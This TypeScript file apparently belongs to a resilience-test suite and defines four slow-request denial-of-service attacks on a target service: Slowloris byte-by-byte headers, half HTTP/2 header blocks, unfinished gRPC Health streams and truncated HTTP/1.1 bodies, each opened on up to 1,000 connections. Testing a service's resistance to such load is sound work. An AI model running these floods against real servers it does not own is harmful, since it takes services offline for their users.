/** Requests that begin and do not end. */
import { setTimeout as delay } from 'node:timers/promises';
import { callHeaders, END_HEADERS, FRAME, http2Frame } from '../../tools/network/http2-frames.ts';
import { CHECK, HEALTH, http1Request } from '../requests.ts';
import type { Attack } from '../scenario.ts';
import { attackInLanes } from '../wire.ts';

const CONNECTIONS = 1_000;
const STREAM_CONNECTIONS = 20;
const STREAMS = 990;
const PAUSE_MS = 200;

/** HTTP/1.1: one byte of a header at a time (Slowloris). */
export const slowHeaders: Attack = {
  name: 'slow-headers',
  title: `HTTP/1.1 headers that come byte by byte, on ${CONNECTIONS} connections`,
  kind: 'strangers',
  run: (target, tally) =>
    attackInLanes(target, tally, CONNECTIONS, async ({ open, over }, index) => {
      const hello = Buffer.from('GET /livez HTTP/1.1\r\nhost: localhost\r\nx-slow: ');
      const wire = await open({ port: target.httpPort, address: index, hello });
      while (wire !== null && !over() && (await wire.write(Buffer.from('x')))) {
        tally.sent += 1;
        await Promise.race([delay(PAUSE_MS), wire.ended]);
      }
      return wire;
    }),
};

/** HTTP/2: half a header block, and nothing more. */
export const halfHeaders: Attack = {
  name: 'half-headers',
  title: `half a header block of HTTP/2, on ${CONNECTIONS} connections`,
  kind: 'strangers',
  run: (target, tally) =>
    attackInLanes(target, tally, CONNECTIONS, async ({ open }, index) => {
      const wire = await open({ port: target.grpcPort, address: index });
      if (wire === null) return null;
      tally.sent += 1;
      const block = callHeaders(HEALTH);
      await wire.write(http2Frame(FRAME.HEADERS, 0, 1, block.subarray(0, block.length / 2)));
      return wire;
    }),
};

/** Messages that are announced and come by half: of Health over HTTP/2. */
export const unfinishedStreams: Attack = {
  name: 'unfinished-streams',
  title: `streams on Health with half a message of 4 KB, on ${STREAM_CONNECTIONS} connections`,
  kind: 'strangers',
  run: (target, tally) =>
    attackInLanes(target, tally, STREAM_CONNECTIONS, async ({ open, over }, index) => {
      const wire = await open({ port: target.grpcPort, address: index });
      if (wire === null) return null;
      const half = Buffer.alloc(2_000);
      half.writeUInt32BE(4_000, 1);
      const headers = callHeaders(HEALTH);
      for (let number = 0; number < STREAMS && !over(); number += 1) {
        const stream = number * 2 + 1;
        const frames = [
          http2Frame(FRAME.HEADERS, END_HEADERS, stream, headers),
          http2Frame(FRAME.DATA, 0, stream, half),
        ];
        if (!(await wire.write(Buffer.concat(frames)))) break;
        tally.sent += 1;
      }
      return wire;
    }),
};

/** The same over HTTP/1.1, on a path that is refused. */
export const unfinishedBodies: Attack = {
  name: 'unfinished-bodies',
  title: `bodies of HTTP/1.1 that come by half, on ${CONNECTIONS} connections`,
  kind: 'strangers',
  run: (target, tally) =>
    attackInLanes(target, tally, CONNECTIONS, async ({ open }, index) => {
      const headers = { 'content-type': 'application/json', 'content-length': '100000' };
      const hello = http1Request('POST', CHECK, headers, 'x'.repeat(1_000));
      tally.sent += 1;
      return open({ port: target.httpPort, address: index, hello });
    }),
};
